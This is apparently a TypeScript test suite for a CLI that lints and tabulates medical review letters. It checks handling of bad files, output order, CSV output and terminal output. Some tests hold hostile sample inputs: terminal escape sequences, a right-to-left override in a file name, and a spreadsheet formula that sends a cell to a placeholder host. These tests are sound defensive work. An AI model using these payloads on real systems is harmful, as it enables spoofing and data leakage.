// End-to-end tests of dist/cli.js over folders: bad files, order with worker threads, the research table.
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { closeSync, constants, copyFileSync, createWriteStream, existsSync, mkdirSync, openSync, readFileSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { test } from 'node:test';
import { parseLetter } from '../../core';
import { tableColumns, tableRows } from '../../cli/table';
import { corpusLetters, corpusSkip, lettersDir, readSources, repoRoot, skipUnless } from '../support/env';
import { cliPath, parseCsv, roundTrip, runCli, runCliAsync, seedFiles, tempDir, withoutRationale } from './support';

test('each bad file gets exactly one clear line on stderr and the good letter is still linted (exit 1)', (t) => {
  const dir = tempDir(t);
  const good = path.join(dir, 'good.txt');
  copyFileSync(seedFiles()[0], good);
  const bad: Record<string, RegExp> = {
    'empty.txt': /empty file/,
    'binary.txt': /binary file \(NUL byte/,
    'letter.pdf': /: not a readable PDF \(damaged or incomplete\)$/,
    'huge.txt': /too large \(20\.0 MB, the limit is 10 MB\); not parsed/,
    'latin1.txt': /not valid UTF-8/,
    'dangling.txt': /broken symbolic link/,
  };
  writeFileSync(path.join(dir, 'empty.txt'), '');
  writeFileSync(path.join(dir, 'binary.txt'), Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d]));
  writeFileSync(path.join(dir, 'letter.pdf'), Buffer.concat([Buffer.from('%PDF-1.4\n%\xe2\xe3\xcf\xd3\n', 'latin1'), Buffer.from([0, 1, 2, 0])]));
  writeFileSync(path.join(dir, 'huge.txt'), Buffer.alloc(20 * 1024 * 1024, 'a'));
  writeFileSync(path.join(dir, 'latin1.txt'), Buffer.from('CLINICAL CASE SUMMARY\nCaf\xe9\n', 'latin1'));
  symlinkSync(path.join(dir, 'nowhere.txt'), path.join(dir, 'dangling.txt'));
  writeFileSync(path.join(dir, 'notes.txt'), 'A shopping list, not a letter.\n');
  const missing = path.join(dir, 'missing.txt');

  for (const inputs of [[dir, missing], [...Object.keys(bad).map((f) => path.join(dir, f)), good, missing]]) {
    for (const jobs of ['0', '2']) {
      const r = runCli(['lint', '--format', 'json', '--jobs', jobs, ...inputs]);
      assert.equal(r.status, 1, r.stderr);
      const lines = r.stderr.trimEnd().split('\n');
      assert.equal(lines.length, Object.keys(bad).length + 1, r.stderr);
      for (const [name, reason] of Object.entries(bad)) {
        const mine = lines.filter((l) => l.startsWith(`imr-letters: ${path.join(dir, name)}: `));
        assert.equal(mine.length, 1, `${name}: ${r.stderr}`);
        assert.match(mine[0], reason);
      }
      assert.ok(lines.includes(`imr-letters: ${missing}: no such file or directory`), r.stderr);
      const linted = (JSON.parse(r.stdout) as { file: string }[]).map((e) => e.file);
      assert.deepEqual(linted, [good], 'notes.txt (not a letter) is skipped silently in a folder');
    }
  }
});

test('text output shows control characters and bidirectional overrides from letters and file names as \\u escapes', (t) => {
  const dir = tempDir(t);
  // An escape sequence that would turn the terminal red and retitle it, in an item's title; a right-to-left
  // override in the file's name, and a bad file whose name holds an escape.
  const evil = '\x1b[31mRED\x1b]0;pwned\x07 ';
  const text = readFileSync(path.join(repoRoot, 'samples', 'malformed-missing-rationale.txt'), 'utf8').replace(/^(.*):\s+(Upheld|Overturned)\s*$/m, `${evil}$&`);
  assert.ok(text.includes(evil));
  const name = path.join(dir, 'letter\u202etxt.exe.txt');
  writeFileSync(name, text);
  writeFileSync(path.join(dir, 'bad\x1b[2J.txt'), '');
  const r = runCli(['lint', dir]);
  assert.equal(r.status, 1, r.stderr);
  for (const out of [r.stdout, r.stderr]) {
    assert.doesNotMatch(out, /[\x00-\x09\x0b-\x1f\x7f\u202e]/, JSON.stringify(out));
  }
  assert.match(r.stdout, /letter\\u202etxt\.exe\.txt:\d+:\d+ error .*\\u001b\[31mRED\\u001b\]0;pwned\\u0007 /);
  assert.match(r.stderr, /bad\\u001b\[2J\.txt: empty file/);
  // JSON carries the text as it is (escaped as JSON).
  const json = runCli(['lint', '--format', 'json', name]);
  assert.ok((JSON.parse(json.stdout) as { diagnostics: { message: string }[] }[])[0].diagnostics.some((d) => d.message.includes(evil.trim())));
});

test('a letter saved as UTF-16 ("Unicode" on Windows) parses and lints as its UTF-8 text, from a file and from stdin', (t) => {
  const dir = tempDir(t);
  const text = readFileSync(path.join(repoRoot, 'samples', 'malformed-conflict.txt'), 'utf8').replace(/\r?\n/g, '\r\n');
  const utf8 = path.join(dir, 'utf8.txt');
  const utf16 = path.join(dir, 'utf16.txt');
  writeFileSync(utf8, text);
  const bytes = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
  writeFileSync(utf16, bytes);
  // The related places of a diagnostic name the letter's own URI (standard input's: untitled:stdin); the rest is equal.
  type Related = { relatedInformation?: { location: { uri: string } }[] };
  const lint = (file: string, input?: Buffer) => {
    const r = runCli(['lint', '--format', 'json', input ? '-' : file], input ? { input } : {});
    const own = input ? 'untitled:stdin' : pathToFileURL(file).href;
    const diagnostics = (JSON.parse(r.stdout) as { diagnostics: Related[] }[]).map((f) =>
      f.diagnostics.map((d) => ({
        ...d,
        relatedInformation: d.relatedInformation?.map((x) => {
          assert.equal(x.location.uri, own);
          return { ...x, location: { ...x.location, uri: 'the letter' } };
        }),
      })),
    );
    return { status: r.status, stderr: r.stderr, diagnostics };
  };
  const expected = lint(utf8);
  assert.equal(expected.status, 1, 'the sample has an error-level diagnostic');
  assert.ok(expected.diagnostics[0].length > 0);
  assert.ok(expected.diagnostics[0].some((d) => d.relatedInformation?.length), 'the conflict points at its conclusion');
  assert.deepEqual(lint(utf16), expected);
  assert.deepEqual(lint('-', bytes), expected);
  const model = (file: string) => ({ ...JSON.parse(runCli(['parse', file]).stdout), file: undefined });
  assert.deepEqual(model(utf16), model(utf8));
});

test('a text file named explicitly that is not a letter is reported; in a folder it is skipped silently', (t) => {
  const dir = tempDir(t);
  const notes = path.join(dir, 'notes.txt');
  writeFileSync(notes, 'A shopping list, not a letter.\n');
  copyFileSync(seedFiles()[1], path.join(dir, 'letter.txt'));
  const named = runCli(['lint', notes]);
  assert.equal(named.status, 1);
  assert.equal(named.stderr, `imr-letters: ${notes}: not an IMR letter (none of its headings or fields were recognised); skipped\n`);
  const folder = runCli(['table', dir]);
  assert.equal(folder.stderr, '');
  assert.equal(folder.status, 0);
});

test('a file met twice (named twice, named beside its folder, reached by a link) is read once, where first met', (t) => {
  const dir = tempDir(t);
  const letter = path.join(dir, 'a.txt');
  copyFileSync(seedFiles()[0], letter);
  symlinkSync(letter, path.join(dir, 'b-link.txt'));
  const other = path.join(dir, 'c.txt');
  copyFileSync(seedFiles()[1], other);
  for (const jobs of ['0', '2']) {
    const lint = (...inputs: string[]) => runCli(['lint', '--format', 'json', '--jobs', jobs, ...inputs]);
    const files = (r: { stdout: string }) => (JSON.parse(r.stdout) as { file: string }[]).map((e) => e.file);
    assert.deepEqual(files(lint(letter, letter)), [letter]);
    assert.deepEqual(files(lint(other, dir, letter)), [other, letter], 'the link to a.txt and a.txt named again are left out');
    const table = runCli(['table', '--format', 'json', '--jobs', jobs, letter, letter]);
    assert.equal((JSON.parse(table.stdout) as unknown[]).length, parseLetter(readFileSync(letter, 'utf8')).items.length);
  }
});

test('a folder walk passes by markup, data, code, image and archive files (a README quoting a letter, a CSV, its own output, a screenshot); named, they are read', (t) => {
  const dir = tempDir(t);
  const letter = path.join(dir, 'letter.txt');
  copyFileSync(seedFiles()[0], letter);
  const quoted = readFileSync(seedFiles()[1], 'utf8');
  for (const name of ['README.md', 'notes.MARKDOWN', 'letter.rtf', 'items.csv', 'model.json', 'page.html', 'lint.sarif', 'script.py']) writeFileSync(path.join(dir, name), quoted);
  writeFileSync(path.join(dir, 'summary.md'), ''); // `summary dir > dir/summary.md`: the shell creates it first
  // A screenshot and an archive beside the letters: binary, but no letter either.
  writeFileSync(path.join(dir, 'screenshot.PNG'), Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d]));
  writeFileSync(path.join(dir, 'letters.zip'), Buffer.from([0x50, 0x4b, 0x03, 0x04, 0, 0, 0, 0]));
  const files = (r: { stdout: string }) => (JSON.parse(r.stdout) as { file: string }[]).map((e) => e.file);
  const lint = runCli(['lint', '--format', 'json', dir]);
  assert.equal(lint.stderr, '');
  assert.deepEqual(files(lint), [letter]);
  // A word processor's file may hold a letter: it is still said to be unreadable.
  writeFileSync(path.join(dir, 'letter.docx'), Buffer.from([0x50, 0x4b, 0x03, 0x04, 0, 0, 0, 0]));
  assert.match(runCli(['lint', '--format', 'json', dir]).stderr, /letter\.docx: binary file/);
  rmSync(path.join(dir, 'letter.docx'));
  const table = runCli(['table', '--format', 'json', dir]);
  assert.deepEqual([...new Set(files(table))], [letter]);
  const readme = path.join(dir, 'README.md');
  assert.deepEqual(files(runCli(['lint', '--format', 'json', readme])), [readme], 'named, it is read');
});

const hasMkfifo = spawnSync('mkfifo', ['--version'], { encoding: 'utf8' }).status === 0;

test('a pipe named on the command line (lint <(cat letter)) is read, as parse reads it', { skip: skipUnless(hasMkfifo, 'no mkfifo(1)') }, async (t) => {
  const dir = tempDir(t);
  const letter = seedFiles()[0];
  const expected = JSON.parse(runCli(['lint', '--format', 'json', letter]).stdout) as { diagnostics: unknown }[];
  for (const command of ['lint', 'parse']) {
    const fifo = path.join(dir, `${command}.fifo`);
    assert.equal(spawnSync('mkfifo', [fifo]).status, 0);
    const run = runCliAsync([command, '--format', 'json', fifo]);
    const writer = createWriteStream(fifo).on('error', () => {});
    writer.end(readFileSync(letter));
    const r = await run;
    // A CLI that never opened the pipe would leave the writer waiting for a reader: give it one.
    closeSync(openSync(fifo, constants.O_RDONLY | constants.O_NONBLOCK));
    assert.equal(r.stderr, '', command);
    assert.equal(r.status, command === 'lint' ? runCli(['lint', letter]).status : 0);
    if (command === 'lint') assert.deepEqual((JSON.parse(r.stdout) as { diagnostics: unknown }[])[0].diagnostics, expected[0].diagnostics);
  }
});

test('a run that finds no letter at all (an empty folder, one of notes) says so and exits 2, so that CI fails', (t) => {
  const empty = tempDir(t);
  const notes = tempDir(t);
  writeFileSync(path.join(notes, 'notes.txt'), 'A shopping list, not a letter.\n');
  mkdirSync(path.join(notes, 'sub'));
  for (const dir of [empty, notes]) {
    for (const args of [['lint'], ['lint', '--format', 'json'], ['table'], ['summary'], ['format', '--check']]) {
      const r = runCli([...args, dir]);
      assert.equal(r.stderr, `imr-letters: no letters found in ${dir}\n`, args.join(' '));
      assert.equal(r.status, 2, args.join(' '));
    }
    assert.equal(runCli(['lint', dir]).stdout, '', 'not "No problems in 0 letters."');
  }
  // Files reported say why already: exit 1, as before.
  const missing = runCli(['lint', path.join(empty, 'missing.txt')]);
  assert.equal(missing.status, 1);
  assert.equal(missing.stderr, `imr-letters: ${path.join(empty, 'missing.txt')}: no such file or directory\n`);
});

test('the worker pool gives the same output, in sorted path order, as working in the main thread', async (t) => {
  // 3 × 5 seeds in nested folders: over the in-process threshold, so workers are used.
  const dir = tempDir(t);
  for (const sub of ['b', 'a/z', 'a']) {
    mkdirSync(path.join(dir, sub), { recursive: true });
  }
  for (const sub of ['a', 'a/z', 'b']) {
    for (const seed of seedFiles()) {
      const name = `${sub === 'a/z' ? 'z' : 'm'}-${path.basename(seed)}`;
      copyFileSync(seed, path.join(dir, sub, name));
    }
  }
  // Walk order: sorted names at each level, folders entered where they sort.
  const walk = (d: string): string[] =>
    readdirSync(d, { withFileTypes: true })
      .sort((x, y) => (x.name < y.name ? -1 : 1))
      .flatMap((e) => (e.isDirectory() ? walk(path.join(d, e.name)) : [path.join(d, e.name)]));
  const expectedOrder = walk(dir);
  const [pooled, single, text, table] = await Promise.all([
    runCliAsync(['lint', '--format', 'json', '--jobs', '2', dir]),
    runCliAsync(['lint', '--format', 'json', '--jobs', '0', dir]),
    runCliAsync(['lint', '--jobs', '2', dir]),
    runCliAsync(['table', '--format', 'json', '--jobs', '2', dir]),
  ]);
  assert.equal(pooled.stderr, '');
  assert.equal(pooled.stdout, single.stdout);
  assert.equal(pooled.status, single.status);
  assert.equal(text.status, single.status);
  assert.deepEqual(
    (JSON.parse(pooled.stdout) as { file: string }[]).map((e) => e.file),
    expectedOrder,
  );
  const rows = JSON.parse(table.stdout) as Record<string, unknown>[];
  const expectedRows = expectedOrder.flatMap((f) => roundTrip(tableRows(f, parseLetter(readFileSync(f, 'utf8')))));
  assert.deepEqual(rows, expectedRows);
});

test('table writes RFC 4180 CSV that reads back to the same rows as the in-process model', (t) => {
  const dir = tempDir(t);
  const files = seedFiles();
  const r = runCli(['table', ...files], { cwd: dir });
  assert.equal(r.status, 0, r.stderr);
  assert.ok(r.stdout.endsWith('\r\n'));
  const [header, ...rows] = parseCsv(r.stdout);
  assert.deepEqual(header, [...tableColumns]);
  const expected = files.flatMap((f) => tableRows(f, parseLetter(readFileSync(f, 'utf8'))));
  assert.ok(expected.length >= files.length);
  assert.equal(rows.length, expected.length);
  rows.forEach((row, i) => {
    assert.equal(row.length, tableColumns.length);
    assert.deepEqual(
      row,
      tableColumns.map((c) => (expected[i][c] === null ? '' : String(expected[i][c]))),
    );
  });
  for (const row of rows) assert.ok(row[tableColumns.indexOf('decision')] === 'Upheld' || row[tableColumns.indexOf('decision')] === 'Overturned');
});

test('table: a title a spreadsheet would run as a formula is written with a leading quote in CSV, as is in JSON', (t) => {
  const dir = tempDir(t);
  const file = path.join(dir, 'crafted.txt');
  const title = '=HYPERLINK("http://example.invalid/?q="&A1,"MRI")';
  writeFileSync(
    file,
    `IMR ISSUES, DECISIONS AND RATIONALES\n\n${title}: Upheld\n\nClaims Administrator guideline: Decision based on MTUS.\n\n` +
      'MAXIMUS guideline: Decision based on MTUS Chronic Pain Medical Treatment 2016, Section(s): Opioids.\n\n' +
      'Decision rationale: The request is not medically necessary.\n',
  );
  const csv = runCli(['table', file], { cwd: dir });
  assert.equal(csv.status, 0, csv.stderr);
  const [, row] = parseCsv(csv.stdout);
  assert.equal(row[tableColumns.indexOf('item_title')], `'${title}`);
  assert.equal(row[tableColumns.indexOf('service')], `'${title}`);
  const json = runCli(['table', '--format', 'json', file], { cwd: dir });
  assert.equal(JSON.parse(json.stdout)[0].item_title, title);
});

test('table over the corpus has one row per item counted in SOURCES.tsv', { skip: corpusSkip }, async () => {
  const r = await runCliAsync(['table', lettersDir]);
  assert.equal(r.stderr, '');
  assert.equal(r.status, 0);
  const [header, ...rows] = parseCsv(r.stdout);
  const fileCol = header.indexOf('file');
  const sources = readSources();
  assert.equal(corpusLetters().length, sources.length);
  assert.equal(rows.length, sources.reduce((n, s) => n + s.items, 0));
  const perFile = new Map<string, number>();
  for (const row of rows) perFile.set(path.basename(row[fileCol]), (perFile.get(path.basename(row[fileCol])) ?? 0) + 1);
  for (const s of sources) assert.equal(perFile.get(s.filename) ?? 0, s.items, s.filename);
  const caseCol = header.indexOf('case_number');
  for (const row of rows) {
    const s = sources.find((x) => x.filename === path.basename(row[fileCol]));
    assert.equal(row[caseCol], s?.caseNumber);
  }
});

const hasScript = spawnSync('script', ['--version'], { encoding: 'utf8' }).status === 0;

test('progress goes to stderr only when stderr is a terminal, and is cleared at the end', { skip: skipUnless(hasScript, 'no script(1) to give the CLI a terminal') }, (t) => {
  const dir = tempDir(t);
  for (const seed of seedFiles()) copyFileSync(seed, path.join(dir, path.basename(seed)));
  // script(1) runs the CLI on a pseudo-terminal; stdout goes to a file so only stderr reaches the terminal.
  // The file lies outside the linted folder: inside it, the walk could meet it while it is still empty.
  const out = path.join(tempDir(t), 'out.json');
  const q = (s: string) => `'${s.replace(/'/g, `'\\''`)}'`;
  const command = `${q(process.execPath)} ${q(cliPath)} lint --format json ${q(dir)} > ${q(out)}`;
  const r = spawnSync('script', ['-qec', command, '/dev/null'], { encoding: 'utf8' });
  assert.equal(r.status, 0, r.stderr);
  assert.match(r.stdout, /\rimr-letters: \d+ files? read/);
  assert.ok(r.stdout.includes('\r\x1b[K'), 'the progress line is cleared');
  assert.equal((JSON.parse(readFileSync(out, 'utf8')) as unknown[]).length, seedFiles().length, 'stdout is untouched');
  const piped = runCli(['lint', '--format', 'json', dir]);
  assert.equal(piped.stderr, '', 'no progress when stderr is not a terminal');
});

test('with stdout on the same terminal, the progress line is erased before output; one file is "1 file read"', { skip: skipUnless(hasScript, 'no script(1) to give the CLI a terminal') }, (t) => {
  const dir = tempDir(t);
  for (const seed of seedFiles()) copyFileSync(seed, path.join(dir, path.basename(seed)));
  const q = (s: string) => `'${s.replace(/'/g, `'\\''`)}'`;
  const onTerminal = (args: string) => spawnSync('script', ['-qec', `${q(process.execPath)} ${q(cliPath)} ${args}`, '/dev/null'], { encoding: 'utf8' });
  const r = onTerminal(`lint ${q(dir)}`);
  const shown = [...r.stdout.matchAll(/\rimr-letters: \d+ files? read/g)];
  assert.ok(shown.length > 0, JSON.stringify(r.stdout));
  for (const m of shown) {
    const after = r.stdout.slice(m.index + m[0].length);
    assert.ok(after.startsWith('\r\x1b[K'), `erased before what follows: ${JSON.stringify(after.slice(0, 80))}`);
  }
  assert.match(r.stdout, /^\S+:\d+:\d+ /m, 'lint lines start a line of their own');
  const one = onTerminal(`lint ${q(seedFiles()[0])}`);
  assert.match(one.stdout, /\rimr-letters: 1 file read\r\x1b\[K/);
});

test('a slow reader of stdout holds the run back without losing or reordering output', async (t) => {
  const dir = tempDir(t);
  for (let copy = 0; copy < 60; copy++) {
    for (const seed of seedFiles()) copyFileSync(seed, path.join(dir, `${String(copy).padStart(2, '0')}-${path.basename(seed)}`));
  }
  const expected = runCli(['table', '--format', 'json', '--jobs', '0', dir]);
  assert.ok(expected.stdout.length > 256 * 1024, 'more than a pipe buffer holds');
  const child = spawn(process.execPath, [cliPath, 'table', '--format', 'json', '--jobs', '2', dir]);
  const chunks: Buffer[] = [];
  child.stdout.on('data', (b: Buffer) => {
    chunks.push(b);
    // Stall after every chunk, so that the CLI meets a full pipe again and again.
    child.stdout.pause();
    setTimeout(() => child.stdout.resume(), 5);
  });
  let stderr = '';
  child.stderr.setEncoding('utf8').on('data', (s: string) => (stderr += s));
  const status = await new Promise<number | null>((resolve) => child.on('close', resolve));
  assert.equal(stderr, '');
  assert.equal(status, 0);
  assert.equal(Buffer.concat(chunks).toString('utf8'), expected.stdout);
});

test('a reader that goes away ends the run quietly, with the status of what was found before it went', async (t) => {
  const dir = tempDir(t);
  const { file } = withoutRationale(dir); // an error-level diagnostic in each copy
  const text = readFileSync(file);
  const letters = path.join(dir, 'letters');
  mkdirSync(letters);
  writeFileSync(path.join(letters, '000-empty.txt'), ''); // a bad file, met first
  for (let i = 1; i <= 400; i++) writeFileSync(path.join(letters, `${String(i).padStart(3, '0')}.txt`), text);
  for (const args of [['lint', '--format', 'json'], ['table']]) {
    // Output of more than one write: the reader reads the first and goes away (`| head -1`).
    const child = spawn(process.execPath, [cliPath, ...args, '--jobs', '0', letters]);
    child.stdout.once('data', () => child.stdout.destroy());
    let stderr = '';
    child.stderr.setEncoding('utf8').on('data', (s: string) => (stderr += s));
    const status = await new Promise<number | null>((resolve) => child.on('close', resolve));
    assert.equal(status, 1, `${args[0]}: ${stderr}`);
    assert.doesNotMatch(stderr, /EPIPE|at /, 'no stack trace');
  }
});

const hasDevFull = existsSync('/dev/full');

test('a write error other than a closed pipe (a full disk) gets one line and exit 2, not a stack trace', { skip: skipUnless(hasDevFull, 'no /dev/full') }, (t) => {
  const dir = tempDir(t);
  copyFileSync(seedFiles()[0], path.join(dir, 'letter.txt'));
  for (const args of [['table', dir], ['lint', dir], ['parse', path.join(dir, 'letter.txt')], ['rules']]) {
    const full = openSync('/dev/full', 'w');
    try {
      const r = spawnSync(process.execPath, [cliPath, ...args], { stdio: ['ignore', full, 'pipe'], encoding: 'utf8' });
      assert.equal(r.stderr, 'imr-letters: cannot write the output: no space left on device\n', args.join(' '));
      assert.equal(r.status, 2, args.join(' '));
    } finally {
      closeSync(full);
    }
  }
});

test('on worker threads each folder gets the severities of its nearest .imr-letters.json', async (t) => {
  const dir = tempDir(t);
  const { file } = withoutRationale(dir);
  const text = readFileSync(file);
  for (const sub of ['configured', 'plain']) {
    mkdirSync(path.join(dir, sub));
    for (let i = 0; i < 8; i++) writeFileSync(path.join(dir, sub, `${i}.txt`), text);
  }
  writeFileSync(path.join(dir, 'configured', '.imr-letters.json'), JSON.stringify({ rules: { 'missing-rationale': 'hint' } }));
  const args = ['lint', '--format', 'json', path.join(dir, 'configured'), path.join(dir, 'plain')];
  const [pooled, single] = await Promise.all([runCliAsync([...args, '--jobs', '2']), runCliAsync([...args, '--jobs', '0'])]);
  assert.equal(pooled.stdout, single.stdout);
  const entries = JSON.parse(pooled.stdout) as { file: string; diagnostics: { code?: string; severity?: number }[] }[];
  assert.equal(entries.length, 16);
  for (const e of entries) {
    const severities = e.diagnostics.filter((d) => d.code === 'missing-rationale').map((d) => d.severity);
    assert.deepEqual(severities, [e.file.includes(`${path.sep}configured${path.sep}`) ? 4 : 1], e.file);
  }
  assert.equal(pooled.status, 1);
});
